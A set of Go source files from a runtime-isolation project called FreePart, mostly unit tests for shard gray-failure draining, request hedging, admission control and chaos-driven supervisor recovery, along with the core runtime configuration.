			if ferr := e.failover(sh); ferr != nil {
				return nil, 0, nil, false
			}
		}
	}
	return nil, 0, nil, false
}
