package core_test

import (
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/vclock"
)

const ms = vclock.Duration(time.Millisecond)

// advanceJob returns a job that models pure service time: it advances the
// shard clock by d and returns err.
func advanceJob(d vclock.Duration, err error) func(*core.Shard) error {
	return func(sh *core.Shard) error {
		sh.K.Clock.Advance(d)
		return err
	}
}

// grayEventKinds filters the failover log to the given kinds, in order.
func grayEventKinds(ex *core.Executor, kinds ...string) []string {
	want := make(map[string]bool, len(kinds))
	for _, k := range kinds {
		want[k] = true
	}
	var out []string
	for _, ev := range ex.FailoverEvents() {
		if want[ev.Kind] {
			out = append(out, ev.Kind)
		}
	}
	return out
}

// TestGraySuspicionDrain walks a slow shard through the scorer's whole arc:
// below MinSamples nothing is judged, then the shard turns suspect, accrues
// suspicion per slow completion, and at DrainScore is drained through the
// ordinary failover path — replacement shard, migrated session, and a
// "gray-drain" event paired with the GrayDrains counter.
func TestGraySuspicionDrain(t *testing.T) {
	ex := newExecutor(t, 2, core.Default())
	ex.SetGray(core.GrayPolicy{
		Ratio: 2, Baseline: ms, MinSamples: 2, Rise: 1, DrainScore: 2,
	})
	s := ex.Session() // pinned to shard 0
	defer s.Finish()

	// Two samples reach MinSamples; both over 2x baseline, so the second is
	// judged: suspect, score 1. The third brings the score to DrainScore.
	for i := 0; i < 3; i++ {
		if err := s.Do(advanceJob(10*ms, nil)); err != nil {
			t.Fatalf("slow job %d: %v", i, err)
		}
	}
	kinds := grayEventKinds(ex, "suspect", "gray-drain", "drain", "replace", "migrate")
	if !reflect.DeepEqual(kinds, []string{"suspect", "gray-drain"}) {
		t.Fatalf("pre-failover events = %v, want [suspect gray-drain]", kinds)
	}

	// The drain fires at the next admission: the session fails over to a
	// fresh incarnation and the job runs there.
	if err := s.Do(advanceJob(ms/2, nil)); err != nil {
		t.Fatalf("post-drain job: %v", err)
	}
	if got := s.Shard().Gen; got != 1 {
		t.Fatalf("session shard gen after gray drain = %d, want 1", got)
	}
	kinds = grayEventKinds(ex, "gray-drain", "drain", "replace", "migrate")
	if !reflect.DeepEqual(kinds, []string{"gray-drain", "drain", "replace", "migrate"}) {
		t.Fatalf("failover events = %v, want [gray-drain drain replace migrate]", kinds)
	}
	m := ex.Metrics().Snapshot()
	if m.GrayDrains != 1 || m.ShardDrains != 1 || m.Migrations != 1 {
		t.Fatalf("counters = gray %d drains %d migrations %d, want 1/1/1", m.GrayDrains, m.ShardDrains, m.Migrations)
	}

	scores := ex.GrayScores()
	if len(scores) != 2 {
		t.Fatalf("GrayScores len = %d, want 2", len(scores))
	}
	if scores[0].Drains != 1 {
		t.Fatalf("slot 0 drains = %d, want 1", scores[0].Drains)
	}
	if scores[0].Suspect || scores[0].Score != 0 {
		// The replacement incarnation starts with a clean record.
		t.Fatalf("slot 0 replacement score = %+v, want clean", scores[0])
	}
}

// TestGrayHysteresis pins the no-flap property: a shard that turns suspect
// and then recovers walks its suspicion back through Decay and emits one
// "suspect-clear" — it is never drained, and a second healthy stretch adds
// no further transitions.
func TestGrayHysteresis(t *testing.T) {
	ex := newExecutor(t, 2, core.Default())
	ex.SetGray(core.GrayPolicy{
		Ratio: 2, Baseline: ms, MinSamples: 1, Rise: 1, Decay: 1, DrainScore: 10,
	})
	s := ex.Session()
	defer s.Finish()

	for i := 0; i < 2; i++ {
		if err := s.Do(advanceJob(10*ms, nil)); err != nil {
			t.Fatal(err)
		}
	}
	// Recovery: healthy completions pull the EWMA under the threshold and
	// decay the score to zero, clearing the flag exactly once.
	for i := 0; i < 8; i++ {
		if err := s.Do(advanceJob(ms/10, nil)); err != nil {
			t.Fatal(err)
		}
	}
	kinds := grayEventKinds(ex, "suspect", "suspect-clear", "gray-drain")
	if !reflect.DeepEqual(kinds, []string{"suspect", "suspect-clear"}) {
		t.Fatalf("events = %v, want [suspect suspect-clear]", kinds)
	}
	if got := s.Shard().Gen; got != 0 {
		t.Fatalf("shard gen = %d, want 0 (no drain)", got)
	}
	if m := ex.Metrics().Snapshot(); m.GrayDrains != 0 {
		t.Fatalf("GrayDrains = %d, want 0", m.GrayDrains)
	}
}

// TestHedgeWin races a slow primary against a fast secondary: the hedge
// launches at arrival+Delay on the other shard, completes first, supplies
// the recorded latency and the returned error, and the loser stays charged
// on its own clock.
func TestHedgeWin(t *testing.T) {
	ex := newExecutor(t, 2, core.Default())
	ex.SetHedge(core.HedgePolicy{Delay: ms})
	s := ex.Session() // shard 0
	defer s.Finish()

	c1 := ex.Shard(1).Clock().Now() // provisioning cost already on the clock
	hedgeErr := errors.New("hedge ran")
	err := s.DoAt(0, func(sh *core.Shard) error {
		if sh.ID == 0 {
			sh.K.Clock.Advance(10 * ms)
			return nil
		}
		sh.K.Clock.Advance(ms / 2)
		return hedgeErr
	})
	// Winner: hedge — its half-millisecond service beats the primary's ten
	// even after the launch delay — so its error is the call's result.
	if !errors.Is(err, hedgeErr) {
		t.Fatalf("DoAt error = %v, want hedge's", err)
	}
	m := ex.Metrics().Snapshot()
	if m.Hedges != 1 || m.HedgeWins != 1 || m.HedgeCancels != 0 {
		t.Fatalf("hedge counters = %d/%d/%d, want 1/1/0", m.Hedges, m.HedgeWins, m.HedgeCancels)
	}
	// The hedge was the only serving work on shard 1: its charged work is
	// everything past the later of the shard's clock and the launch instant,
	// and the recorded latency is its completion (arrival was 0).
	hEnd := ex.Shard(1).Clock().Now()
	hStart := c1
	if ms > hStart {
		hStart = ms
	}
	if m.HedgeWork != hEnd-hStart {
		t.Fatalf("HedgeWork = %v, want %v", m.HedgeWork, hEnd-hStart)
	}
	if got := ex.Latencies().P50(); got != hEnd {
		t.Fatalf("recorded latency = %v, want winner's %v", got, hEnd)
	}
	if pEnd := ex.Shard(0).Clock().Now(); pEnd < 10*ms || pEnd <= hEnd {
		t.Fatalf("losing primary clock = %v, want charged its full 10ms service past %v", pEnd, hEnd)
	}
	kinds := grayEventKinds(ex, "hedge", "hedge-win", "hedge-cancel")
	if !reflect.DeepEqual(kinds, []string{"hedge", "hedge-win"}) {
		t.Fatalf("events = %v, want [hedge hedge-win]", kinds)
	}
}

// TestHedgeTiebreak pins the determinism rule: when primary and secondary
// complete at the same virtual instant, the lower shard id wins. The
// primary is on slot 0 here, so the hedge — despite equal completion — is
// cancelled.
func TestHedgeTiebreak(t *testing.T) {
	ex := newExecutor(t, 2, core.Default())
	ex.SetHedge(core.HedgePolicy{Delay: ms})
	s := ex.Session()
	defer s.Finish()

	// Line the shards up for an exact tie: push shard 0 past the hedge
	// launch instant, then bring shard 1's clock level with it. Both calls
	// then start at the same virtual instant and advance the same service
	// time — identical completions by construction.
	if c := ex.Shard(0).Clock().Now(); c < ms {
		ex.Shard(0).Clock().Advance(ms - c)
	}
	if gap := ex.Shard(0).Clock().Now() - ex.Shard(1).Clock().Now(); gap > 0 {
		ex.Shard(1).Clock().Advance(gap)
	}

	hedgeErr := errors.New("hedge ran")
	err := s.DoAt(0, func(sh *core.Shard) error {
		sh.K.Clock.Advance(5 * ms)
		if sh.ID == 0 {
			return nil
		}
		return hedgeErr
	})
	if err != nil {
		t.Fatalf("DoAt error = %v, want primary's nil (tie goes to lower id)", err)
	}
	if a, b := ex.Shard(0).Clock().Now(), ex.Shard(1).Clock().Now(); a != b {
		t.Fatalf("test did not construct a tie: ends %v vs %v", a, b)
	}
	m := ex.Metrics().Snapshot()
	if m.Hedges != 1 || m.HedgeWins != 0 || m.HedgeCancels != 1 {
		t.Fatalf("hedge counters = %d/%d/%d, want 1/0/1", m.Hedges, m.HedgeWins, m.HedgeCancels)
	}
	if got, want := ex.Latencies().P50(), ex.Shard(0).Clock().Now(); got != want {
		t.Fatalf("recorded latency = %v, want primary's %v", got, want)
	}
}

// TestHedgeProfitGate pins the hedge-storm breaker: a primary that overran
// the delay still launches no hedge when no other shard is predicted to
// beat it — here because the only peer carries a backlog past the
// primary's completion.
func TestHedgeProfitGate(t *testing.T) {
	ex := newExecutor(t, 2, core.Default())
	ex.SetHedge(core.HedgePolicy{Delay: ms})
	ex.Shard(1).Clock().Advance(100 * ms) // peer backlogged far past pEnd
	s := ex.Session()
	defer s.Finish()

	if err := s.DoAt(0, advanceJob(10*ms, nil)); err != nil {
		t.Fatal(err)
	}
	if m := ex.Metrics().Snapshot(); m.Hedges != 0 {
		t.Fatalf("Hedges = %d, want 0 (no profitable target)", m.Hedges)
	}
	if got, want := ex.Latencies().P50(), ex.Shard(0).Clock().Now(); got != want {
		t.Fatalf("recorded latency = %v, want primary's %v", got, want)
	}
}

// TestHedgeClosedLoopExempt pins the idempotence rule carried over from
// deadline shedding: un-stamped (closed-loop) invocations never hedge, no
// matter how far they overrun the delay.
func TestHedgeClosedLoopExempt(t *testing.T) {
	ex := newExecutor(t, 2, core.Default())
	ex.SetHedge(core.HedgePolicy{Delay: ms})
	s := ex.Session()
	defer s.Finish()

	if err := s.Do(advanceJob(50*ms, nil)); err != nil {
		t.Fatal(err)
	}
	if m := ex.Metrics().Snapshot(); m.Hedges != 0 {
		t.Fatalf("Hedges = %d, want 0 for closed-loop call", m.Hedges)
	}
}

// TestGrayZeroCost is the zero-cost guard: an executor with the gray layer
// explicitly installed but disabled — zero GrayPolicy, zero HedgePolicy,
// zero DegradePlan in every chaos plan — must be bit-identical to one that
// never heard of the gray layer, on a workload with real fault injection:
// same latencies, same queue waits, same critical path, same failover
// events, same metrics, and byte-equal per-shard injection logs.
func TestGrayZeroCost(t *testing.T) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	reqs := apps.GenDetectionRequests(7, 32)

	run := func(installGray bool) (*core.Executor, []apps.DetectionResult) {
		planOf := func(id, gen int) chaos.Plan {
			p := chaos.Scaled(41, 0.02).ForShard(id)
			if installGray {
				// The zero profile must change nothing.
				p = p.WithDegrade(chaos.DegradePlan{})
			}
			return p
		}
		cfg := core.ChaosConfig(nil)
		cfg.BreakerThreshold = 3
		cfg.BreakerWindow = 200 * ms
		ex, err := core.NewExecutor(4, core.ChaosShards(reg, cat, cfg, planOf))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(ex.Close)
		ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1, DrainOnDegrade: true})
		srv, err := apps.ProvisionDetection(ex)
		if err != nil {
			t.Fatal(err)
		}
		if installGray {
			ex.SetGray(core.GrayPolicy{})
			ex.SetHedge(core.HedgePolicy{})
		}
		return ex, srv.ServeSeq(reqs)
	}

	plain, plainRes := run(false)
	gray, grayRes := run(true)

	for i := range plainRes {
		if (plainRes[i].Err == nil) != (grayRes[i].Err == nil) || plainRes[i].Objects != grayRes[i].Objects {
			t.Fatalf("request %d diverged: %+v vs %+v", i, plainRes[i], grayRes[i])
		}
	}
	if a, b := plain.Latencies().String(), gray.Latencies().String(); a != b {
		t.Fatalf("latencies diverged:\n%s\n%s", a, b)
	}
	if a, b := plain.QueueWaits().String(), gray.QueueWaits().String(); a != b {
		t.Fatalf("queue waits diverged:\n%s\n%s", a, b)
	}
	if a, b := plain.CriticalPath(), gray.CriticalPath(); a != b {
		t.Fatalf("critical path diverged: %v vs %v", a, b)
	}
	pe, pm := plain.EventsAndMetrics()
	ge, gm := gray.EventsAndMetrics()
	if !reflect.DeepEqual(pe, ge) {
		t.Fatalf("failover events diverged:\n%v\n%v", pe, ge)
	}
	if !reflect.DeepEqual(pm, gm) {
		t.Fatalf("metrics diverged:\n%+v\n%+v", pm, gm)
	}
	for id := 0; id < 4; id++ {
		a := incarnationLogsFor(plain, id)
		b := incarnationLogsFor(gray, id)
		if a != b {
			t.Fatalf("shard %d injection logs diverged:\n%s\n%s", id, a, b)
		}
	}
}

// incarnationLogsFor joins every incarnation's injection log for one slot.
func incarnationLogsFor(ex *core.Executor, id int) string {
	var logs []string
	for _, sh := range ex.Incarnations(id) {
		if eng := sh.Chaos(); eng != nil {
			logs = append(logs, eng.Log())
		}
	}
	return strings.Join(logs, "\n---\n")
}
