// Package core implements the FreePart runtime (§4.3, §4.4): framework API
// interposition, agent-process partitioning and RPC, lazy data copy,
// temporal memory-permission enforcement, per-agent syscall lockdown, and
// the agent restart supervisor.
package core

import (
	"time"

	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
	"freepart.dev/freepart/internal/vclock"
)

// Config selects the runtime's policies.
type Config struct {
	// LazyDataCopy enables the §4.3.2 optimization: objects move between
	// agents by reference and are copied only when dereferenced. Disabled,
	// every object payload ships through the host process (the -LDC
	// ablation of §5.2).
	LazyDataCopy bool
	// Restart enables the §4.4.2 supervisor: crashed agents are revived
	// with a fresh address space.
	Restart bool
	// CheckpointStateful periodically saves stateful-API objects so a
	// restarted agent resumes with usable state (§A.2.4).
	CheckpointStateful bool
	// EnforcePermissions enables temporal read-only protection (§4.4.3).
	EnforcePermissions bool
	// RestrictSyscalls installs per-agent seccomp policies (§4.4.1).
	RestrictSyscalls bool
	// FilterAction is the seccomp violation action (default kill).
	FilterAction kernel.FilterAction
	// AppAPIs limits syscall-policy derivation to the APIs the target app
	// actually uses (per-application lockdown, §4.1 study 2). Nil = all.
	AppAPIs []string
	// PartitionOf overrides agent assignment (Fig. 4 / §A.1.4 sweeps):
	// given an API, return a partition id in [0, Partitions). Nil = the
	// default four type-based partitions.
	PartitionOf func(api *framework.API) int
	// Partitions is the partition count when PartitionOf is set.
	Partitions int

	// Chaos, when set, threads the fault-injection engine into the kernel,
	// every agent connection, and every agent address space.
	Chaos *chaos.Engine
	// RetryBudget is how many times the supervisor re-issues one API call
	// (same RPC sequence number, so completed work is answered from the
	// dedup cache) after a crash, timeout, or corrupted message. 0 keeps
	// the paper's behaviour: restart the agent but surface the error.
	RetryBudget int
	// CheckpointAll extends checkpointing from stateful APIs to every
	// object argument/result, so a retried call can be replayed even when
	// its arguments lived in the agent that just lost its memory.
	CheckpointAll bool
	// BackoffBase is the virtual-time penalty of the first restart in a
	// crash loop; each consecutive restart doubles it up to BackoffCap.
	// 0 disables backoff.
	BackoffBase vclock.Duration
	// BackoffCap bounds the exponential backoff.
	BackoffCap vclock.Duration
	// BreakerThreshold trips the circuit breaker: after this many restarts
	// of one partition within BreakerWindow, the partition is degraded to
	// in-host direct execution (a recorded security downgrade). 0 disables
	// the breaker.
	BreakerThreshold int
	// BreakerWindow is the virtual-time window the breaker counts restarts
	// over; 0 means an unbounded window.
	BreakerWindow vclock.Duration
	// CallDeadline bounds how long one RPC waits for a response in wall-
	// clock time, so a peer that dies without answering fails the call
	// instead of hanging. 0 disables the deadline.
	CallDeadline time.Duration

	// Isolation picks the boundary tier per API type (see
	// internal/isolation). Nil — and the equivalent isolation.Paper()
	// preset — runs every partition as a kernel process behind per-call
	// IPC, byte-identical to the pre-policy path.
	Isolation *isolation.Policy

	// OnAnomaly, when set, receives DoS resource-watchdog reports for
	// partitions that share the host's fate (domain and host tiers): an
	// invocation that killed the host process (kind "host-crash") or
	// overran WatchdogBudget on the virtual clock (kind "budget"). The
	// hook observes only — it advances no clock and mutates no runtime
	// state — so a nil hook is bit-identical to not having a watchdog.
	// Process-tier partitions are never reported: their crashes are
	// already contained by the restart supervisor.
	OnAnomaly func(t framework.APIType, api, kind, detail string)
	// WatchdogBudget bounds the virtual time one non-process-tier
	// invocation may consume before the watchdog flags it as a resource-
	// exhaustion anomaly. 0 disables the budget check (host-crash
	// detection still fires whenever OnAnomaly is set).
	WatchdogBudget vclock.Duration
}

// Default returns the paper's standard configuration: four type-based
// partitions with LDC, restart, checkpointing, temporal permissions, and
// syscall lockdown all on.
func Default() Config {
	return Config{
		LazyDataCopy:       true,
		Restart:            true,
		CheckpointStateful: true,
		EnforcePermissions: true,
		RestrictSyscalls:   true,
		FilterAction:       kernel.ActionKill,
		CallDeadline:       2 * time.Second,
	}
}

// ConfigForIsolation returns the replay/serving configuration for one
// isolation policy. The "none" preset (every type in-host) disables every
// FreePart mechanism — it is the unprotected baseline the overhead column
// is measured against, so temporal sealing and seccomp must not quietly
// block anything. Every other preset keeps the paper's defaults, with
// seccomp derivation skipped when no partition runs as a process (MPK
// domains and in-host execution have no per-partition filter to install).
func ConfigForIsolation(pol *isolation.Policy) Config {
	if pol != nil && !pol.HasTier(isolation.TierProcess) && !pol.HasTier(isolation.TierDomain) {
		return Config{LazyDataCopy: true, Isolation: pol}
	}
	cfg := Default()
	cfg.Isolation = pol
	cfg.RestrictSyscalls = pol.HasTier(isolation.TierProcess)
	return cfg
}

// ChaosConfig returns the supervision policy used for chaos runs: the
// paper's defaults plus retry budgets with idempotent replay, checkpointing
// of every object (so replays survive argument loss), exponential crash-
// loop backoff charged to the virtual clock, and the circuit breaker.
func ChaosConfig(eng *chaos.Engine) Config {
	cfg := Default()
	cfg.Chaos = eng
	cfg.RetryBudget = 6
	cfg.CheckpointAll = true
	cfg.BackoffBase = vclock.Duration(20 * time.Microsecond)
	cfg.BackoffCap = vclock.Duration(2 * time.Millisecond)
	cfg.BreakerThreshold = 8
	cfg.BreakerWindow = vclock.Duration(200 * time.Millisecond)
	return cfg
}

// Handle is the host program's reference to a data object produced by a
// framework API. Under lazy data copy it names an object living in an
// agent process (ref); without LDC (or after Fetch) it is materialized in
// the host's own address space (local id).
type Handle struct {
	ref          object.Ref
	local        uint64
	materialized bool
	size         int
	kind         object.Kind
}

// Size returns the object's payload size in bytes.
func (h Handle) Size() int { return h.size }

// Kind returns the object kind.
func (h Handle) Kind() object.Kind { return h.kind }

// Materialized reports whether the object lives in the host space.
func (h Handle) Materialized() bool { return h.materialized }

// OwnerPID returns the owning agent's process id (0 when materialized).
func (h Handle) OwnerPID() uint32 {
	if h.materialized {
		return 0
	}
	return h.ref.PID
}

// Value converts the handle into an API argument value.
func (h Handle) Value() framework.Value {
	if h.materialized {
		return framework.Obj(h.local)
	}
	return framework.RefVal(h.ref)
}

// Caller abstracts the protected runtime and the unprotected Direct
// runner so application pipelines (internal/apps) run unchanged on both.
// (The concurrent serving pool that schedules sessions over many runtimes
// is Executor, in executor.go.)
type Caller interface {
	// Call invokes a framework API, returning object handles and plain
	// (scalar) results.
	Call(api string, args ...framework.Value) ([]Handle, []framework.Value, error)
	// Fetch dereferences a handle's payload into the caller's hands.
	Fetch(h Handle) ([]byte, error)
}

// BaselineHandle builds a handle carrying an executor-specific opaque id —
// used by the baseline isolation techniques (internal/baseline), whose
// object ownership model differs from the FreePart runtime's.
func BaselineHandle(id uint64, size int) Handle {
	return Handle{local: id, materialized: true, size: size}
}

// BaselineHandleID extracts the opaque id from a baseline handle.
func BaselineHandleID(h Handle) uint64 { return h.local }
