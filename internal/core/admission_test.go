package core_test

import (
	"errors"
	"fmt"
	"testing"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/vclock"
)

// newDirectExecutor builds an unprotected n-shard executor — admission
// semantics live entirely in the executor layer, so the cheap shard
// flavor exercises them fully.
func newDirectExecutor(t *testing.T, n int) *core.Executor {
	t.Helper()
	ex, err := core.NewExecutor(n, core.DirectShards(all.Registry()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	// Admission arithmetic is relative to arrival stamps, so measure from a
	// zero clock rather than the shard boot cost.
	for i := 0; i < n; i++ {
		ex.Shard(i).K.Clock.Reset()
	}
	return ex
}

// advance returns a job that models a fixed service time.
func advance(d vclock.Duration) func(sh *core.Shard) error {
	return func(sh *core.Shard) error {
		sh.K.Clock.Advance(d)
		return nil
	}
}

// TestAdmissionQueueBound pins the virtual 503: with QueueLimit 2, the
// request that arrives while two admitted ones are still on the virtual
// timeline is rejected with ErrOverloaded — its job never runs — and a
// later arrival, after the queue has drained on the timeline, is admitted
// again.
func TestAdmissionQueueBound(t *testing.T) {
	ex := newDirectExecutor(t, 1)
	ex.SetAdmission(core.AdmissionPolicy{QueueLimit: 2})
	s := ex.Session()

	// Two requests arriving at t=0, each 100ns of service: they occupy the
	// timeline until 100 and 200.
	for i := 0; i < 2; i++ {
		if err := s.DoAt(0, advance(100)); err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
	}
	ran := false
	err := s.DoAt(0, func(sh *core.Shard) error { ran = true; return nil })
	if !errors.Is(err, core.ErrOverloaded) {
		t.Fatalf("third arrival at t=0: got %v, want ErrOverloaded", err)
	}
	if ran {
		t.Fatal("rejected request's job ran")
	}
	if got := core.ErrClass(err); got != "overloaded" {
		t.Fatalf("ErrClass = %q, want overloaded", got)
	}
	// The bound is a function of the virtual timeline, not a permanent
	// state: an arrival past both completions sees an empty queue.
	if err := s.DoAt(250, advance(100)); err != nil {
		t.Fatalf("arrival after drain: %v", err)
	}

	events, m := ex.EventsAndMetrics()
	if m.Rejected != 1 {
		t.Fatalf("Rejected = %d, want 1", m.Rejected)
	}
	found := false
	for _, ev := range events {
		if ev.Kind == "reject" {
			found = true
		}
	}
	if !found {
		t.Fatalf("no reject event in log: %v", events)
	}
}

// TestAdmissionDeadline pins deadline shedding: a request whose queue wait
// on the virtual clock exceeds its deadline is dropped at dequeue with
// ErrDeadlineExceeded, without running or advancing the shard clock.
func TestAdmissionDeadline(t *testing.T) {
	ex := newDirectExecutor(t, 1)
	ex.SetAdmission(core.AdmissionPolicy{Deadline: 50})
	s := ex.Session()

	if err := s.DoAt(0, advance(100)); err != nil {
		t.Fatal(err)
	}
	// Dequeued at clock 100, arrived at 0, deadline 50: 50ns late.
	ran := false
	err := s.DoAt(0, func(sh *core.Shard) error { ran = true; return nil })
	if !errors.Is(err, core.ErrDeadlineExceeded) {
		t.Fatalf("stale dequeue: got %v, want ErrDeadlineExceeded", err)
	}
	if ran {
		t.Fatal("shed request's job ran")
	}
	if got := ex.Shard(0).K.Clock.Now(); got != 100 {
		t.Fatalf("shed request moved the shard clock: %v, want 100", got)
	}
	if got := core.ErrClass(err); got != "deadline" {
		t.Fatalf("ErrClass = %q, want deadline", got)
	}
	// A fresh arrival the idle shard can serve on time is unaffected.
	if err := s.DoAt(200, advance(100)); err != nil {
		t.Fatal(err)
	}

	events, m := ex.EventsAndMetrics()
	if m.DeadlineShed != 1 {
		t.Fatalf("DeadlineShed = %d, want 1", m.DeadlineShed)
	}
	found := false
	for _, ev := range events {
		if ev.Kind == "shed" {
			found = true
		}
	}
	if !found {
		t.Fatalf("no shed event in log: %v", events)
	}
}

// TestAdmissionZeroPolicyIsInert pins the zero-cost guard at the executor
// layer: with the zero AdmissionPolicy installed explicitly, nothing is
// ever rejected, no overload events appear, and per-tenant counters show
// pure service.
func TestAdmissionZeroPolicyIsInert(t *testing.T) {
	ex := newDirectExecutor(t, 1)
	ex.SetAdmission(core.AdmissionPolicy{})
	s := ex.Session()
	// The same pattern that trips both mechanisms under an active policy.
	for i := 0; i < 8; i++ {
		if err := s.DoAt(0, advance(100)); err != nil {
			t.Fatalf("request %d rejected under zero policy: %v", i, err)
		}
	}
	events, m := ex.EventsAndMetrics()
	if m.Rejected != 0 || m.DeadlineShed != 0 {
		t.Fatalf("zero policy shed work: rejected=%d deadline=%d", m.Rejected, m.DeadlineShed)
	}
	for _, ev := range events {
		if ev.Kind == "reject" || ev.Kind == "shed" {
			t.Fatalf("zero policy logged overload event: %v", ev)
		}
	}
}

// TestTenantLoads pins the per-tenant signal snapshot: served, rejected,
// and shed work accumulate under the session's tenant identity, ascending
// by tenant id.
func TestTenantLoads(t *testing.T) {
	ex := newDirectExecutor(t, 1)
	ex.SetAdmission(core.AdmissionPolicy{QueueLimit: 1})
	s1 := ex.SessionFor(1, 2)
	s2 := ex.SessionFor(2, 1)
	if got := ex.TenantOf(s1.ID); got != 1 {
		t.Fatalf("TenantOf(%d) = %d, want 1", s1.ID, got)
	}

	if err := s1.DoAt(0, advance(100)); err != nil {
		t.Fatal(err)
	}
	// Tenant 2 arrives while tenant 1's request is still in the system.
	if err := s2.DoAt(0, advance(100)); !errors.Is(err, core.ErrOverloaded) {
		t.Fatalf("got %v, want ErrOverloaded", err)
	}
	loads := ex.TenantLoads()
	if len(loads) != 2 || loads[0].Tenant != 1 || loads[1].Tenant != 2 {
		t.Fatalf("TenantLoads = %+v, want tenants 1,2", loads)
	}
	if loads[0].Served != 1 || loads[0].Weight != 2 {
		t.Fatalf("tenant 1 load = %+v, want served 1 weight 2", loads[0])
	}
	if loads[1].Rejected != 1 || loads[1].Served != 0 {
		t.Fatalf("tenant 2 load = %+v, want rejected 1 served 0", loads[1])
	}
	// The metrics tenant cells fold both shed classes into one counter.
	m := ex.Metrics().Snapshot()
	if m.Tenants[1].Served != 1 || m.Tenants[2].Shed != 1 {
		t.Fatalf("tenant counters = %+v", m.Tenants)
	}
}

// TestErrClassTaxonomy pins the class names the per-class summaries print —
// operators alert on these strings.
func TestErrClassTaxonomy(t *testing.T) {
	cases := []struct {
		err  error
		want string
	}{
		{nil, "ok"},
		{core.ErrOverloaded, "overloaded"},
		{fmt.Errorf("shard 3: %w", core.ErrOverloaded), "overloaded"},
		{core.ErrDeadlineExceeded, "deadline"},
		{fmt.Errorf("late: %w", core.ErrDeadlineExceeded), "deadline"},
		{ipc.ErrTimeout, "timeout"},
		{ipc.ErrPeerDead, "peer-dead"},
		{ipc.ErrAgentCrashed, "agent-crash"},
		{ipc.ErrCorrupt, "corrupt"},
		{errors.New("anything else"), "app-error"},
	}
	for _, c := range cases {
		if got := core.ErrClass(c.err); got != c.want {
			t.Errorf("ErrClass(%v) = %q, want %q", c.err, got, c.want)
		}
	}
}
