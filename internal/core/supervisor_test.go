package core_test

import (
	"bytes"
	"sync"
	"testing"

	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
)

// cleanPipeline runs the reference imread→blur→erode pipeline on a fresh
// direct runner and returns the final payload, the fault-free baseline the
// chaos runs must match.
func cleanPipeline(t *testing.T) []byte {
	t.Helper()
	k := kernel.New()
	writeImage(k, "/in.img", 8, 8)
	d := core.NewDirect(k, all.Registry())
	return runPipeline(t, d)
}

func runPipeline(t *testing.T, ex core.Caller) []byte {
	t.Helper()
	imgs, _, err := ex.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatalf("imread: %v", err)
	}
	b, _, err := ex.Call("cv.GaussianBlur", imgs[0].Value())
	if err != nil {
		t.Fatalf("blur: %v", err)
	}
	e, _, err := ex.Call("cv.erode", b[0].Value())
	if err != nil {
		t.Fatalf("erode: %v", err)
	}
	out, err := ex.Fetch(e[0])
	if err != nil {
		t.Fatalf("fetch: %v", err)
	}
	return out
}

// TestCircuitBreakerDegradesToInHost drives one partition into a permanent
// crash loop (every targeted syscall kills it) and checks the supervision
// policy's last resort: after BreakerThreshold restarts inside the window
// the partition is demoted to in-host execution, the pipeline completes,
// and the security downgrade is visible in the metrics.
func TestCircuitBreakerDegradesToInHost(t *testing.T) {
	eng := chaos.New(chaos.Plan{Seed: 1, Kernel: chaos.KernelPlan{CrashEveryN: 1}})
	cfg := core.ChaosConfig(eng)
	cfg.BreakerThreshold = 3
	k, rt := setup(t, cfg)
	writeImage(k, "/in.img", 8, 8)

	imgs, _, err := rt.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatalf("imread should complete degraded, got %v", err)
	}
	if !rt.Host.Alive() {
		t.Fatal("host must survive the crash loop")
	}
	snap := rt.Metrics.Snapshot()
	if snap.Restarts < 3 {
		t.Fatalf("restarts = %d, want >= breaker threshold 3", snap.Restarts)
	}
	if snap.Degraded < 1 {
		t.Fatalf("degraded = %d, want >= 1", snap.Degraded)
	}
	if snap.DegradedCalls < 1 {
		t.Fatalf("degradedCalls = %d, want >= 1", snap.DegradedCalls)
	}
	if len(rt.DegradedPartitions()) == 0 {
		t.Fatal("no partition reported degraded")
	}
	// The degradation is on the injection log for replay.
	found := false
	for _, ev := range eng.Events() {
		if ev.Site == "supervisor" && ev.Kind == "degrade" {
			found = true
		}
	}
	if !found {
		t.Fatalf("no supervisor/degrade event in log:\n%s", eng.Log())
	}
	// The demoted partition keeps serving — in the host, correctly.
	out, err := rt.Fetch(imgs[0])
	if err != nil {
		t.Fatalf("fetch from degraded result: %v", err)
	}
	if len(out) != 64 {
		t.Fatalf("degraded imread payload = %d bytes, want 64", len(out))
	}
	if _, _, err := rt.Call("cv.imread", framework.Str("/in.img")); err != nil {
		t.Fatalf("second degraded call: %v", err)
	}
}

// TestTransientSyscallFaultsInvisible saturates the transient-fault path
// (every eligible I/O syscall fails EINTR-style up to the cap) and checks
// the kernel retry makes them invisible: no crashes, no restarts, correct
// output — only virtual time is lost.
func TestTransientSyscallFaultsInvisible(t *testing.T) {
	baseline := cleanPipeline(t)
	eng := chaos.New(chaos.Plan{
		Seed:   1,
		Kernel: chaos.KernelPlan{TransientProb: 1, MaxTransient: 2},
	})
	k, rt := setup(t, core.ChaosConfig(eng))
	writeImage(k, "/in.img", 8, 8)
	out := runPipeline(t, rt)
	if !bytes.Equal(out, baseline) {
		t.Fatal("output diverged under transient faults")
	}
	if eng.Injected() == 0 {
		t.Fatal("no transients fired")
	}
	if snap := rt.Metrics.Snapshot(); snap.Restarts != 0 {
		t.Fatalf("transient faults caused %d restarts, want 0", snap.Restarts)
	}
}

